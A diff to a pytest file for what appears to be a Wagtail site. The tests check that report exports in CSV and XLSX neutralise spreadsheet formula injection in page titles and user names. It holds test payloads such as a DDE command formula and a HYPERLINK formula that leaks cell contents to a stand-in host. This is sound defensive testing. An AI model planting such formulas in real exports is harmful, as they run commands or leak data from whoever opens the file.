@@ -73,3 +73,72 @@ def test_a_report_export_neutralises_member_names(client_for, db):
         texts = [str(cell) for cell in cells]
         assert not any(t.startswith(("=", "+", "@")) for t in texts), texts
         assert "'=HYPERLINK(1)" in texts and "'=cmd|' /C calc'!A0" in texts
+
+
+def test_real_numbers_stay_numbers_and_a_dash_text_is_neutralised():
+    data = table_bytes([["分数", "说明"], [-3, "-3"], [-1.5, "-"], [0, "+86"]], "xlsx")
+    sheet = load_workbook(io.BytesIO(data)).active
+    rows = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
+    assert rows == [
+        [(-3, "n"), ("'-3", "s")],
+        [(-1.5, "n"), ("'-", "s")],
+        [(0, "n"), ("'+86", "s")],
+    ]
+    text = table_bytes([[-3, "-3"]], "csv").decode("utf-8-sig")
+    assert text.strip() == "-3,'-3"
+
+
+def export_cells(response, fmt: str) -> list:
+    """Every cell of an export response, read back with the csv module or openpyxl;
+    an XLSX cell stored as a formula fails the test at once."""
+    content = (
+        b"".join(response.streaming_content) if response.streaming else response.content
+    )
+    if fmt == "csv":
+        text = content.decode("utf-8-sig")
+        return [
+            cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
+        ]
+    sheet = load_workbook(io.BytesIO(content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [c.value for c in cells if c.data_type == "f"]
+    return [c.value for c in cells if c.value is not None]
+
+
+def assert_neutralised(cells: list, *hostile: str) -> None:
+    texts = [cell for cell in cells if isinstance(cell, str)]
+    live = [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert not live, live
+    for value in hostile:
+        assert any(t.startswith("'" + value) for t in texts), (value, texts)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_wagtail_admin_report_exports_neutralise_titles_and_user_names(
+    client_for, home_page, fmt
+):
+    """Wagtail's own reports (aging pages, locked pages, site history) export page
+    titles and user names a lecturer or member chose."""
+    from tests import factories
+
+    title = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'
+    person = factories.user("@SUM(A1:A9)", first_name="-1+2", last_name="+王")
+    page = factories.lesson(home_page, title=title)
+    page.save_revision(user=person, log_action=True).publish(
+        user=person, skip_permission_checks=True
+    )
+    type(page).objects.filter(pk=page.pk).update(locked=True, locked_by=person)
+    admin = factories.user("boss", is_superuser=True, is_staff=True)
+    client = client_for(admin)
+    reports = {
+        "aging-pages": "@SUM(A1:A9)",  # last published by (user name)
+        "locked": "@SUM(A1:A9)",  # locked by
+        "site-history": "-1+2 +王",  # the user's full name
+    }
+    for report, person_cell in reports.items():
+        answer = client.get(f"/admin/reports/{report}/?export={fmt}")
+        assert answer.status_code == 200, (report, answer.content[:300])
+        cells = export_cells(answer, fmt)
+        assert_neutralised(cells, title, person_cell)
+        if fmt == "xlsx" and report == "site-history":
+            assert page.pk in cells  # the id column stays a number
